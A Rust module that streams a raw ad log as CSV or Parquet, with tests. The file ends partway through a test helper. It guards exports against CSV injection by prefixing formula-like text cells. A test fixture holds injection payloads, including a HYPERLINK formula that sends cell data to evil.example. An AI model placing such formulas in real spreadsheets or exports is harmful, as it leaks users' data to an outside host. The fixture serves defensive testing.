//! The raw ad log as files buyers load: one row per play ([`PlayLogRow`]), written as CSV or as
//! Parquet a chunk at a time, so an export of any date range streams over HTTP as it is read.
//!
//! The columns are [`PlayLogRow`]'s fields, in their order and under their names (`play_id`,
//! `sequence`, `screen`, … `chain`), in both formats. [`AdLogWriter::write_rows`] turns a slice of
//! rows into the bytes to send next and [`AdLogWriter::finish`] gives the last ones; the chunks put
//! end to end are one valid file.
//!
//! **CSV** (RFC 4180, UTF-8, CRLF line ends): a header line of the column names, then one line per
//! play. Timestamps are RFC 3339 in UTC as jiff prints them (`2026-12-05T10:00:00.123Z`), booleans
//! `true`/`false`, numbers as numbers, and a missing value (`scheduled_end`, `price_cents`) an empty
//! cell.
//!
//! **Invariant:** no text cell reads as a formula in a spreadsheet. The ad log carries text HQ does
//! not control (item ids from playlists, product feeds' names), and a buyer opens the file in Excel:
//! a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`,
//! as OWASP advises against CSV injection. Numbers are never prefixed (a price of `-5` stays `-5`),
//! so every numeric column still reads as numbers.
//!
//! **Parquet**: the same columns, text as `BYTE_ARRAY` (`String`), counts and prices as `INT64`,
//! timestamps as `INT64` `TIMESTAMP(MICROS, UTC)` (anything finer than a microsecond is dropped),
//! booleans as `BOOLEAN`, the audience figures as `DOUBLE`, and the two optional columns
//! `OPTIONAL`, every other one `REQUIRED`. Pages are compressed with Snappy. The parquet crate is
//! built without arrow: rows are written column by column through its low-level column writers.
//!
//! **Invariant:** memory stays bounded by one row group, however many rows the export has. CSV
//! keeps nothing between chunks. Parquet buffers rows until [`ROW_GROUP_ROWS`] are waiting, then
//! writes them as one row group and hands its bytes out at once; what stays behind is the footer's
//! entry for each row group written, written out by [`AdLogWriter::finish`].

use std::borrow::Cow;
use std::fmt::Write as _;
use std::str::FromStr;
use std::sync::Arc;

use jiff::Timestamp;
use parquet::basic::{Compression, LogicalType, Repetition, TimeUnit, Type as PhysicalType};
use parquet::data_type::{BoolType, ByteArray, ByteArrayType, DoubleType, Int64Type};
use parquet::file::properties::WriterProperties;
use parquet::file::writer::{SerializedFileWriter, SerializedRowGroupWriter};
use parquet::schema::types::{Type, TypePtr};

use crate::storage::plays::PlayLogRow;

/// How many rows a Parquet row group holds: the most rows an export keeps in memory at once.
pub const ROW_GROUP_ROWS: usize = 65_536;

/// The file formats the raw ad log is exported in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ExportFormat {
    Csv,
    Parquet,
}

impl ExportFormat {
    /// The name the format goes by in a request, and its file extension.
    pub fn as_str(self) -> &'static str {
        match self {
            ExportFormat::Csv => "csv",
            ExportFormat::Parquet => "parquet",
        }
    }

    /// The `Content-Type` of a response carrying the file.
    pub fn content_type(self) -> &'static str {
        match self {
            ExportFormat::Csv => "text/csv; charset=utf-8",
            ExportFormat::Parquet => "application/vnd.apache.parquet",
        }
    }

    /// The extension of the file's name, without its dot.
    pub fn extension(self) -> &'static str {
        self.as_str()
    }
}

impl std::fmt::Display for ExportFormat {
    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        formatter.write_str(self.as_str())
    }
}

/// A format name that is neither `csv` nor `parquet`.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("unknown export format `{0}`: expected `csv` or `parquet`")]
pub struct UnknownExportFormat(pub String);

impl FromStr for ExportFormat {
    type Err = UnknownExportFormat;

    /// `csv` or `parquet`, in any case.
    fn from_str(name: &str) -> Result<Self, Self::Err> {
        if name.eq_ignore_ascii_case("csv") {
            Ok(ExportFormat::Csv)
        } else if name.eq_ignore_ascii_case("parquet") {
            Ok(ExportFormat::Parquet)
        } else {
            Err(UnknownExportFormat(name.to_owned()))
        }
    }
}

/// Why a chunk of the export could not be written.
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("cannot write the CSV: {0}")]
    Csv(#[from] csv::Error),
    #[error("cannot write the Parquet file: {0}")]
    Parquet(#[from] parquet::errors::ParquetError),
    #[error("cannot write the export: {0}")]
    Io(#[from] std::io::Error),
    /// Parquet's `INT64` is signed; a count past `i64::MAX` is refused rather than wrapped.
    #[error("`{column}` is {value}, more than a Parquet INT64 holds")]
    TooLarge { column: &'static str, value: u64 },
}

/// Writes the raw ad log a chunk at a time; see the [module documentation](self).
#[derive(Debug)]
pub struct AdLogWriter {
    format: ExportFormat,
    state: State,
}

#[derive(Debug)]
enum State {
    Csv { header_written: bool },
    // Boxed: the file writer is large, and a writer is made once per export.
    Parquet(Box<ParquetState>),
}

#[derive(Debug)]
struct ParquetState {
    row_group_rows: usize,
    /// Rows waiting for their row group: always fewer than `row_group_rows` between calls.
    buffered: Vec<PlayLogRow>,
    /// Started with the first row group (or at the end, for an export of no rows). Its sink is
    /// emptied after every row group.
    file: Option<SerializedFileWriter<Vec<u8>>>,
}

impl AdLogWriter {
    /// A writer for `format`, with Parquet row groups of [`ROW_GROUP_ROWS`] rows.
    pub fn new(format: ExportFormat) -> Self {
        Self::with_row_group_rows(format, ROW_GROUP_ROWS)
    }

    /// A writer whose Parquet row groups hold `row_group_rows` rows (at least one); CSV ignores it.
    pub fn with_row_group_rows(format: ExportFormat, row_group_rows: usize) -> Self {
        let state = match format {
            ExportFormat::Csv => State::Csv {
                header_written: false,
            },
            ExportFormat::Parquet => State::Parquet(Box::new(ParquetState {
                row_group_rows: row_group_rows.max(1),
                buffered: Vec::new(),
                file: None,
            })),
        };
        Self { format, state }
    }

    /// The format this writer writes.
    pub fn format(&self) -> ExportFormat {
        self.format
    }

    /// The bytes to send for `rows`, which may be none. CSV starts with the header line on the
    /// first call; Parquet returns bytes only from the calls that complete a row group, and keeps
    /// the rest of the rows for the next. After an error the file cannot be completed: the export
    /// is abandoned.
    pub fn write_rows(&mut self, rows: &[PlayLogRow]) -> Result<Vec<u8>, ExportError> {
        match &mut self.state {
            State::Csv { header_written } => {
                let chunk = csv_chunk(rows, !*header_written)?;
                *header_written = true;
                Ok(chunk)
            }
            State::Parquet(parquet) => {
                let ParquetState {
                    row_group_rows,
                    buffered,
                    file,
                } = &mut **parquet;
                let row_group_rows = *row_group_rows;
                let mut chunk = Vec::new();
                let mut rest = rows;
                // Top up the rows left over from the last call first, so that row groups keep
                // the plays in their order.
                if !buffered.is_empty() {
                    let taken = rest.len().min(row_group_rows - buffered.len());
                    buffered.extend_from_slice(&rest[..taken]);
                    rest = &rest[taken..];
                    if buffered.len() == row_group_rows {
                        chunk.extend(write_row_group(file, buffered)?);
                        buffered.clear();
                    }
                }
                // Whole row groups straight from the caller's rows, without copying them.
                while rest.len() >= row_group_rows {
                    let (group, after) = rest.split_at(row_group_rows);
                    chunk.extend(write_row_group(file, group)?);
                    rest = after;
                }
                buffered.extend_from_slice(rest);
                Ok(chunk)
            }
        }
    }

    /// The rest of the file: for CSV the header if no call wrote it, for Parquet the rows still
    /// buffered as a last row group, then the footer.
    pub fn finish(mut self) -> Result<Vec<u8>, ExportError> {
        match &mut self.state {
            State::Csv { header_written } => {
                if *header_written {
                    Ok(Vec::new())
                } else {
                    csv_chunk(&[], true)
                }
            }
            State::Parquet(parquet) => {
                let ParquetState { buffered, file, .. } = &mut **parquet;
                let mut chunk = Vec::new();
                if !buffered.is_empty() {
                    chunk.extend(write_row_group(file, buffered)?);
                }
                let file = match file.take() {
                    Some(file) => file,
                    None => start_parquet_file()?,
                };
                chunk.extend(file.into_inner()?);
                Ok(chunk)
            }
        }
    }
}

/// How one column reads its value from a row.
#[derive(Clone, Copy)]
enum Value {
    Text(fn(&PlayLogRow) -> &str),
    Count(fn(&PlayLogRow) -> u64),
    OptionalInteger(fn(&PlayLogRow) -> Option<i64>),
    Time(fn(&PlayLogRow) -> Timestamp),
    OptionalTime(fn(&PlayLogRow) -> Option<Timestamp>),
    Flag(fn(&PlayLogRow) -> bool),
    Real(fn(&PlayLogRow) -> f64),
}

/// One column of the ad log: its name in the CSV header and the Parquet schema, and its value.
#[derive(Clone, Copy)]
struct Column {
    name: &'static str,
    value: Value,
}

const fn column(name: &'static str, value: Value) -> Column {
    Column { name, value }
}

/// Every column, in [`PlayLogRow`]'s order: the one list both formats are written from.
const COLUMNS: [Column; 30] = [
    column("play_id", Value::Text(|row| &row.play_id)),
    column("sequence", Value::Count(|row| row.sequence)),
    column("screen", Value::Text(|row| &row.screen)),
    column("store", Value::Text(|row| &row.store)),
    column("venue_zone", Value::Text(|row| &row.venue_zone)),
    column("zone", Value::Text(|row| &row.zone)),
    column("playlist", Value::Text(|row| &row.playlist)),
    column("playlist_version", Value::Count(|row| row.playlist_version)),
    column("item_id", Value::Text(|row| &row.item_id)),
    column("campaign", Value::Text(|row| &row.campaign)),
    column("offer", Value::Text(|row| &row.offer)),
    column("arm", Value::Text(|row| &row.arm)),
    column("creative", Value::Text(|row| &row.creative)),
    column("scheduled_start", Value::Time(|row| row.scheduled_start)),
    column(
        "scheduled_end",
        Value::OptionalTime(|row| row.scheduled_end),
    ),
    column("started_at", Value::Time(|row| row.started_at)),
    column("ended_at", Value::Time(|row| row.ended_at)),
    column("duration_ms", Value::Count(|row| row.duration_ms)),
    column("completed", Value::Flag(|row| row.completed)),
    column("display", Value::Text(|row| &row.display)),
    column("delivered", Value::Flag(|row| row.delivered)),
    column("clock", Value::Text(|row| &row.clock)),
    column("manifest_version", Value::Count(|row| row.manifest_version)),
    column("player_version", Value::Text(|row| &row.player_version)),
    column("price_cents", Value::OptionalInteger(|row| row.price_cents)),
    column("currency", Value::Text(|row| &row.currency)),
    column("stock", Value::OptionalInteger(|row| row.stock)),
    column(
        "audience_multiplier",
        Value::Real(|row| row.audience_multiplier),
    ),
    column(
        "gross_impressions",
        Value::Real(|row| row.gross_impressions),
    ),
    column("chain", Value::Text(|row| &row.chain)),
];

/// The characters a spreadsheet reads a cell starting with as a formula (OWASP's list).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a spreadsheet shows it as text: a leading `'` when it starts like a formula.
fn spreadsheet_safe(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// `rows` as CSV lines, after the header line when `header` is set.
fn csv_chunk(rows: &[PlayLogRow], header: bool) -> Result<Vec<u8>, ExportError> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    if header {
        writer.write_record(COLUMNS.iter().map(|column| column.name))?;
    }
    let mut cell = String::new();
    for row in rows {
        for column in &COLUMNS {
            cell.clear();
            // Writing into a String cannot fail.
            let _ = match column.value {
                Value::Text(text) => {
                    cell.push_str(&spreadsheet_safe(text(row)));
                    Ok(())
                }
                Value::Count(count) => write!(cell, "{}", count(row)),
                Value::OptionalInteger(integer) => match integer(row) {
                    Some(integer) => write!(cell, "{integer}"),
                    None => Ok(()),
                },
                Value::Time(time) => write!(cell, "{}", time(row)),
                Value::OptionalTime(time) => match time(row) {
                    Some(time) => write!(cell, "{time}"),
                    None => Ok(()),
                },
                Value::Flag(flag) => write!(cell, "{}", flag(row)),
                Value::Real(real) => write!(cell, "{}", real(row)),
            };
            writer.write_field(&cell)?;
        }
        // Ends the record the fields above started.
        writer.write_record(None::<&[u8]>)?;
    }
    writer
        .into_inner()
        .map_err(|error| ExportError::Io(error.into_error()))
}

/// The Parquet schema: [`COLUMNS`] with their physical and logical types.
fn parquet_schema() -> Result<TypePtr, ExportError> {
    let fields = COLUMNS
        .iter()
        .map(|column| {
            let (physical, logical, repetition) = match column.value {
                Value::Text(_) => (
                    PhysicalType::BYTE_ARRAY,
                    Some(LogicalType::String),
                    Repetition::REQUIRED,
                ),
                Value::Count(_) => (PhysicalType::INT64, None, Repetition::REQUIRED),
                Value::OptionalInteger(_) => (PhysicalType::INT64, None, Repetition::OPTIONAL),
                Value::Time(_) => (
                    PhysicalType::INT64,
                    Some(LogicalType::timestamp(true, TimeUnit::MICROS)),
                    Repetition::REQUIRED,
                ),
                Value::OptionalTime(_) => (
                    PhysicalType::INT64,
                    Some(LogicalType::timestamp(true, TimeUnit::MICROS)),
                    Repetition::OPTIONAL,
                ),
                Value::Flag(_) => (PhysicalType::BOOLEAN, None, Repetition::REQUIRED),
                Value::Real(_) => (PhysicalType::DOUBLE, None, Repetition::REQUIRED),
            };
            Type::primitive_type_builder(column.name, physical)
                .with_logical_type(logical)
                .with_repetition(repetition)
                .build()
                .map(Arc::new)
        })
        .collect::<Result<Vec<_>, _>>()?;
    Ok(Arc::new(
        Type::group_type_builder("ad_log")
            .with_fields(fields)
            .build()?,
    ))
}

/// A Parquet file writer over an in-memory sink, with the file's magic bytes written.
fn start_parquet_file() -> Result<SerializedFileWriter<Vec<u8>>, ExportError> {
    // Snappy is pure Rust (the `snap` crate) and quick; zstd would build its C library.
    let properties = WriterProperties::builder()
        .set_compression(Compression::SNAPPY)
        .build();
    Ok(SerializedFileWriter::new(
        Vec::new(),
        parquet_schema()?,
        Arc::new(properties),
    )?)
}

/// Writes `rows` as one row group and returns every byte the file has not handed out yet.
fn write_row_group(
    file: &mut Option<SerializedFileWriter<Vec<u8>>>,
    rows: &[PlayLogRow],
) -> Result<Vec<u8>, ExportError> {
    let file = match file {
        Some(file) => file,
        None => file.insert(start_parquet_file()?),
    };
    let mut row_group = file.next_row_group()?;
    for column in &COLUMNS {
        write_column(&mut row_group, column, rows)?;
    }
    row_group.close()?;
    // The sink is drained, so the file never holds more than the row group just written.
    file.flush()?;
    Ok(std::mem::take(file.inner_mut()))
}

/// Writes `column` of `rows` as the row group's next column chunk.
fn write_column(
    row_group: &mut SerializedRowGroupWriter<'_, Vec<u8>>,
    column: &Column,
    rows: &[PlayLogRow],
) -> Result<(), ExportError> {
    let Some(mut writer) = row_group.next_column()? else {
        return Err(parquet::errors::ParquetError::General(format!(
            "the schema has no column `{}`",
            column.name
        ))
        .into());
    };
    match column.value {
        Value::Text(text) => {
            let values: Vec<ByteArray> = rows.iter().map(|row| text(row).into()).collect();
            writer
                .typed::<ByteArrayType>()
                .write_batch(&values, None, None)?;
        }
        Value::Count(count) => {
            let values = rows
                .iter()
                .map(|row| {
                    let value = count(row);
                    i64::try_from(value).map_err(|_| ExportError::TooLarge {
                        column: column.name,
                        value,
                    })
                })
                .collect::<Result<Vec<i64>, _>>()?;
            writer
                .typed::<Int64Type>()
                .write_batch(&values, None, None)?;
        }
        Value::OptionalInteger(integer) => {
            let (values, levels) = optional(rows, integer);
            writer
                .typed::<Int64Type>()
                .write_batch(&values, Some(&levels), None)?;
        }
        Value::Time(time) => {
            let values: Vec<i64> = rows.iter().map(|row| time(row).as_microsecond()).collect();
            writer
                .typed::<Int64Type>()
                .write_batch(&values, None, None)?;
        }
        Value::OptionalTime(time) => {
            let (values, levels) = optional(rows, |row| time(row).map(Timestamp::as_microsecond));
            writer
                .typed::<Int64Type>()
                .write_batch(&values, Some(&levels), None)?;
        }
        Value::Flag(flag) => {
            let values: Vec<bool> = rows.iter().map(flag).collect();
            writer
                .typed::<BoolType>()
                .write_batch(&values, None, None)?;
        }
        Value::Real(real) => {
            let values: Vec<f64> = rows.iter().map(real).collect();
            writer
                .typed::<DoubleType>()
                .write_batch(&values, None, None)?;
        }
    }
    writer.close()?;
    Ok(())
}

/// An optional column's present values and its definition levels (1 present, 0 missing).
fn optional<T>(
    rows: &[PlayLogRow],
    value: impl Fn(&PlayLogRow) -> Option<T>,
) -> (Vec<T>, Vec<i16>) {
    let mut values = Vec::with_capacity(rows.len());
    let mut levels = Vec::with_capacity(rows.len());
    for row in rows {
        match value(row) {
            Some(present) => {
                values.push(present);
                levels.push(1);
            }
            None => levels.push(0),
        }
    }
    (values, levels)
}

#[cfg(test)]
mod tests {
    use std::collections::HashMap;
    use std::io::Write as _;

    use parquet::basic::ConvertedType;
    use parquet::file::reader::{FileReader, SerializedFileReader};
    use parquet::record::{Field, Row};

    use super::*;

    fn time(text: &str) -> Timestamp {
        text.parse().unwrap()
    }

    /// A play with every field set, microseconds in its timestamps.
    fn full_row() -> PlayLogRow {
        PlayLogRow {
            play_id: "0193a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b".into(),
            sequence: 41,
            screen: "paris-11-checkout".into(),
            store: "paris-11".into(),
            venue_zone: "checkout".into(),
            zone: "main".into(),
            playlist: "checkout-loop".into(),
            playlist_version: 7,
            item_id: "hazelnut-card".into(),
            campaign: "winter-sale".into(),
            offer: "hazelnut-spread".into(),
            arm: "treatment".into(),
            creative: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into(),
            scheduled_start: time("2026-12-05T10:00:00.123456Z"),
            scheduled_end: Some(time("2026-12-05T10:00:10.123456Z")),
            started_at: time("2026-12-05T10:00:00.125Z"),
            ended_at: time("2026-12-05T10:00:10.126Z"),
            duration_ms: 10_001,
            completed: true,
            display: "on".into(),
            delivered: true,
            clock: "synced".into(),
            manifest_version: 112,
            player_version: "0.1.0".into(),
            price_cents: Some(349),
            currency: "EUR".into(),
            stock: Some(12),
            audience_multiplier: 2.5,
            gross_impressions: 2.5,
            chain: "linked".into(),
        }
    }

    /// A play with what can be missing missing, text that starts like formulas, and a negative
    /// price.
    fn hostile_row() -> PlayLogRow {
        PlayLogRow {
            play_id: "0193a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5c".into(),
            sequence: 42,
            store: "+33".into(),
            venue_zone: "other".into(),
            item_id: "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")".into(),
            campaign: String::new(),
            offer: "@SUM(1+1)".into(),
            arm: String::new(),
            creative: String::new(),
            scheduled_end: None,
            completed: false,
            display: "unknown".into(),
            delivered: false,
            clock: "-estimated".into(),
            player_version: "\tversion, \"quoted\"\r\nand a new line".into(),
            price_cents: Some(-5),
            currency: "\rEUR".into(),
            stock: Some(12),
            audience_multiplier: -0.125,
            gross_impressions: 0.0,
            chain: "none".into(),
            ..full_row()
        }
    }

    /// A store-content play: no offer, so no price.
    fn plain_row() -> PlayLogRow {
        PlayLogRow {
            play_id: "0193a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5d".into(),
            sequence: u64::MAX,
            store: String::new(),
            campaign: String::new(),
            offer: String::new(),
            arm: String::new(),
            price_cents: None,
            currency: String::new(),
            stock: None,
            scheduled_end: None,
            chain: "pending".into(),
            ..full_row()
        }
    }

    /// `count` distinct plays, cycling through the three kinds above.
    fn many_rows(count: usize) -> Vec<PlayLogRow> {
        (0..count)
            .map(|index| {
                let mut row = match index % 3 {
                    0 => full_row(),
                    1 => hostile_row(),
                    _ => full_row_without_price(),
                };
                row.play_id = format!("play-{index}");
                row.sequence = index as u64;
                row.started_at += jiff::SignedDuration::from_micros(index as i64);
                row
            })
            .collect()
    }

    fn full_row_without_price() -> PlayLogRow {
        PlayLogRow {
            price_cents: None,
            scheduled_end: None,
            ..full_row()
        }
    }

    fn write_chunk(writer: &mut AdLogWriter, rows: &[PlayLogRow]) -> Vec<u8> {
        writer.write_rows(rows).unwrap()
    }

    const HEADER: [&str; 30] = [
        "play_id",
        "sequence",
        "screen",
        "store",
        "venue_zone",
        "zone",
        "playlist",
        "playlist_version",
        "item_id",
        "campaign",
        "offer",
        "arm",
        "creative",
        "scheduled_start",
        "scheduled_end",
        "started_at",
        "ended_at",
        "duration_ms",
        "completed",
        "display",
        "delivered",
        "clock",
        "manifest_version",
        "player_version",
        "price_cents",
        "currency",
        "stock",
        "audience_multiplier",
        "gross_impressions",
        "chain",
    ];

    /// A CSV row read back into a play by its header's names; text cells are taken as written,
    /// leading `'` included.
    fn row_from_csv(header: &csv::StringRecord, record: &csv::StringRecord) -> PlayLogRow {
        let cells: HashMap<&str, &str> = header.iter().zip(record.iter()).collect();
        let text = |name: &str| cells[name].to_owned();
        let number = |name: &str| cells[name].parse::<u64>().unwrap();
        let flag = |name: &str| cells[name].parse::<bool>().unwrap();
        let real = |name: &str| cells[name].parse::<f64>().unwrap();
        let time = |name: &str| cells[name].parse::<Timestamp>().unwrap();
        PlayLogRow {
            play_id: text("play_id"),
            sequence: number("sequence"),
            screen: text("screen"),
            store: text("store"),
            venue_zone: text("venue_zone"),
            zone: text("zone"),
            playlist: text("playlist"),
            playlist_version: number("playlist_version"),
            item_id: text("item_id"),
            campaign: text("campaign"),
            offer: text("offer"),
            arm: text("arm"),
            creative: text("creative"),
            scheduled_start: time("scheduled_start"),
            scheduled_end: match cells["scheduled_end"] {
                "" => None,
                _ => Some(time("scheduled_end")),
            },
            started_at: time("started_at"),
            ended_at: time("ended_at"),
            duration_ms: number("duration_ms"),
            completed: flag("completed"),
            display: text("display"),
            delivered: flag("delivered"),
            clock: text("clock"),
            manifest_version: number("manifest_version"),
            player_version: text("player_version"),
            price_cents: match cells["price_cents"] {
                "" => None,
                price => Some(price.parse().unwrap()),
            },
            currency: text("currency"),
            stock: match cells.get("stock").copied().unwrap_or("") {
                "" => None,
                stock => Some(stock.parse().unwrap()),
            },
            audience_multiplier: real("audience_multiplier"),
            gross_impressions: real("gross_impressions"),
            chain: text("chain"),
        }
    }

    fn read_csv(bytes: &[u8]) -> (csv::StringRecord, Vec<csv::StringRecord>) {
        let mut reader = csv::Reader::from_reader(bytes);
        let header = reader.headers().unwrap().clone();
        let records = reader.records().map(Result::unwrap).collect();
        (header, records)
    }

    #[test]
    fn csv_round_trips_every_field_and_defuses_formulas() {
        let rows = vec![full_row(), hostile_row(), plain_row()];
        let mut writer = AdLogWriter::new(ExportFormat::Csv);
        let mut file = write_chunk(&mut writer, &rows);
        file.extend(writer.finish().unwrap());

        let text = String::from_utf8(file.clone()).unwrap();
        assert!(text.starts_with("play_id,sequence,screen,store,"));
        assert!(text.contains("\r\n"));

        let (header, records) = read_csv(&file);
        assert_eq!(header.iter().collect::<Vec<_>>(), HEADER);
        assert_eq!(records.len(), 3);

        // Text that starts like a formula comes back with the `'` spreadsheets show as text.
        let hostile = &records[1];
        let cell = |name: &str| &hostile[HEADER.iter().position(|column| *column == name).unwrap()];
        assert_eq!(
            cell("item_id"),
            "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
        );
        assert_eq!(cell("store"), "'+33");
        assert_eq!(cell("offer"), "'@SUM(1+1)");
        assert_eq!(cell("clock"), "'-estimated");
        assert_eq!(
            cell("player_version"),
            "'\tversion, \"quoted\"\r\nand a new line"
        );
        assert_eq!(cell("currency"), "'\rEUR");
        // Numbers are numbers, negative ones included, and a missing value is an empty cell.
        assert_eq!(cell("price_cents"), "-5");
        assert_eq!(cell("audience_multiplier"), "-0.125");
        assert_eq!(cell("scheduled_end"), "");
        assert_eq!(cell("completed"), "false");
        assert_eq!(cell("scheduled_start"), "2026-12-05T10:00:00.123456Z");
        assert_eq!(cell("started_at"), "2026-12-05T10:00:00.125Z");

        let mut expected = rows.clone();
        expected[1].store = "'+33".into();
        expected[1].item_id = "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")".into();
        expected[1].offer = "'@SUM(1+1)".into();
        expected[1].clock = "'-estimated".into();
        expected[1].player_version = "'\tversion, \"quoted\"\r\nand a new line".into();
        expected[1].currency = "'\rEUR".into();
        let read_back: Vec<PlayLogRow> = records
            .iter()
            .map(|record| row_from_csv(&header, record))
            .collect();
        assert_eq!(read_back, expected);
        assert_eq!(read_back[2].sequence, u64::MAX);
    }

    #[test]
    fn csv_of_no_rows_is_its_header() {
        let writer = AdLogWriter::new(ExportFormat::Csv);
        let file = writer.finish().unwrap();
        assert_eq!(String::from_utf8(file).unwrap(), HEADER.join(",") + "\r\n");
    }

    /// The file's row groups' sizes, and its rows read back by column name.
    fn read_parquet(bytes: &[u8]) -> (Vec<i64>, Vec<PlayLogRow>) {
        let mut file = tempfile::tempfile().unwrap();
        file.write_all(bytes).unwrap();
        let reader = SerializedFileReader::new(file).unwrap();
        let row_groups = reader
            .metadata()
            .row_groups()
            .iter()
            .map(|row_group| row_group.num_rows())
            .collect();
        let rows = reader
            .get_row_iter(None)
            .unwrap()
            .map(|row| row_from_parquet(&row.unwrap()))
            .collect();
        (row_groups, rows)
    }

    fn row_from_parquet(row: &Row) -> PlayLogRow {
        let fields: HashMap<&str, &Field> = row
            .get_column_iter()
            .map(|(name, field)| (name.as_str(), field))
            .collect();
        let text = |name: &str| match fields[name] {
            Field::Str(text) => text.clone(),
            other => panic!("`{name}` is {other:?}"),
        };
        let number = |name: &str| match fields[name] {
            Field::Long(number) => u64::try_from(*number).unwrap(),
            other => panic!("`{name}` is {other:?}"),
        };
        let flag = |name: &str| match fields[name] {
            Field::Bool(flag) => *flag,
            other => panic!("`{name}` is {other:?}"),
        };
        let real = |name: &str| match fields[name] {
            Field::Double(real) => *real,
            other => panic!("`{name}` is {other:?}"),
        };
        let optional_time = |name: &str| match fields[name] {
            Field::TimestampMicros(micros) => Some(Timestamp::from_microsecond(*micros).unwrap()),
            Field::Null => None,
            other => panic!("`{name}` is {other:?}"),
        };
        let time = |name: &str| optional_time(name).unwrap();
        PlayLogRow {
            play_id: text("play_id"),
            sequence: number("sequence"),
            screen: text("screen"),
            store: text("store"),
            venue_zone: text("venue_zone"),
            zone: text("zone"),
            playlist: text("playlist"),
            playlist_version: number("playlist_version"),
            item_id: text("item_id"),
            campaign: text("campaign"),
            offer: text("offer"),
            arm: text("arm"),
            creative: text("creative"),
            scheduled_start: time("scheduled_start"),
            scheduled_end: optional_time("scheduled_end"),
            started_at: time("started_at"),
            ended_at: time("ended_at"),
            duration_ms: number("duration_ms"),
            completed: flag("completed"),
            display: text("display"),
            delivered: flag("delivered"),
            clock: text("clock"),
            manifest_version: number("manifest_version"),
            player_version: text("player_version"),
            price_cents: match fields["price_cents"] {
                Field::Long(price) => Some(*price),
                Field::Null => None,
                other => panic!("`price_cents` is {other:?}"),
            },
            currency: text("currency"),
            stock: match fields["stock"] {
                Field::Long(stock) => Some(*stock),
                Field::Null => None,
                other => panic!("`stock` is {other:?}"),
            },
            audience_multiplier: real("audience_multiplier"),
            gross_impressions: real("gross_impressions"),
            chain: text("chain"),
        }
    }

    #[test]
    fn parquet_round_trips_every_field_across_row_groups() {
        let rows = many_rows(10);
        let mut writer = AdLogWriter::with_row_group_rows(ExportFormat::Parquet, 4);
        let mut file = write_chunk(&mut writer, &rows[..3]);
        file.extend(write_chunk(&mut writer, &rows[3..]));
        file.extend(writer.finish().unwrap());

        let (row_groups, read_back) = read_parquet(&file);
        assert_eq!(row_groups, [4, 4, 2]);
        // Text is written as is: formulas are a spreadsheet's concern, not Parquet readers'.
        assert_eq!(read_back, rows);
        assert!(read_back.iter().any(|row| row.price_cents.is_none()));
        assert!(read_back.iter().any(|row| row.scheduled_end.is_none()));
        assert!(read_back.iter().any(|row| row.price_cents == Some(-5)));
    }

    #[test]
    fn parquet_columns_have_the_promised_types() {
        let mut writer = AdLogWriter::new(ExportFormat::Parquet);
        let mut file = write_chunk(&mut writer, &[full_row()]);
        file.extend(writer.finish().unwrap());

        let mut sink = tempfile::tempfile().unwrap();
        sink.write_all(&file).unwrap();
        let reader = SerializedFileReader::new(sink).unwrap();
        let metadata = reader.metadata();
        let schema = metadata.file_metadata().schema_descr();
        let names: Vec<&str> = schema
            .columns()
            .iter()
            .map(|column| column.name())
            .collect();
        assert_eq!(names, HEADER);

        let column = |name: &str| {
            schema
                .columns()
                .iter()
                .find(|column| column.name() == name)
                .unwrap()
                .clone()
        };
        let play_id = column("play_id");
        assert_eq!(play_id.physical_type(), PhysicalType::BYTE_ARRAY);
        assert_eq!(play_id.logical_type_ref(), Some(&LogicalType::String));
        assert_eq!(
            play_id.self_type().get_basic_info().repetition(),
            Repetition::REQUIRED
        );
        for name in ["scheduled_start", "scheduled_end"] {
            let time = column(name);
            assert_eq!(time.physical_type(), PhysicalType::INT64);
            assert_eq!(
                time.logical_type_ref(),
                Some(&LogicalType::timestamp(true, TimeUnit::MICROS))
            );
            assert_eq!(time.converted_type(), ConvertedType::TIMESTAMP_MICROS);
        }
        assert_eq!(
            column("scheduled_end")
                .self_type()
                .get_basic_info()
                .repetition(),
            Repetition::OPTIONAL
        );
        assert_eq!(column("sequence").physical_type(), PhysicalType::INT64);
        let price = column("price_cents");
        assert_eq!(price.physical_type(), PhysicalType::INT64);
        assert_eq!(
            price.self_type().get_basic_info().repetition(),
            Repetition::OPTIONAL
        );
        assert_eq!(column("completed").physical_type(), PhysicalType::BOOLEAN);
        assert_eq!(
            column("gross_impressions").physical_type(),
            PhysicalType::DOUBLE
        );
        assert_eq!(
            metadata.row_group(0).column(0).compression(),
            Compression::SNAPPY
        );
    }

    #[test]
    fn parquet_refuses_a_count_past_int64() {
        let mut writer = AdLogWriter::with_row_group_rows(ExportFormat::Parquet, 1);
        let error = writer.write_rows(&[plain_row()]).unwrap_err();
        assert!(
            matches!(
                error,
                ExportError::TooLarge {
                    column: "sequence",
                    value: u64::MAX
                }
            ),
            "{error}"
        );
    }

    #[test]
    fn parquet_of_no_rows_is_a_valid_file() {
        let writer = AdLogWriter::new(ExportFormat::Parquet);
        let file = writer.finish().unwrap();
        let (row_groups, rows) = read_parquet(&file);
        assert!(row_groups.is_empty());
        assert!(rows.is_empty());
    }

    /// Writes `rows` in the chunk sizes given, checking after each call that nothing past one
    /// row group stays behind, and returns the chunks put together.
    fn chunked(format: ExportFormat, rows: &[PlayLogRow], sizes: &[usize]) -> Vec<u8> {
        const GROUP: usize = 4;
        let mut writer = AdLogWriter::with_row_group_rows(format, GROUP);
        let mut file = Vec::new();
        let mut rest = rows;
        let mut written = 0;
        for &size in sizes {
            let (chunk_rows, after) = rest.split_at(size.min(rest.len()));
            rest = after;
            let chunk = writer.write_rows(chunk_rows).unwrap();
            let groups_before = written / GROUP;
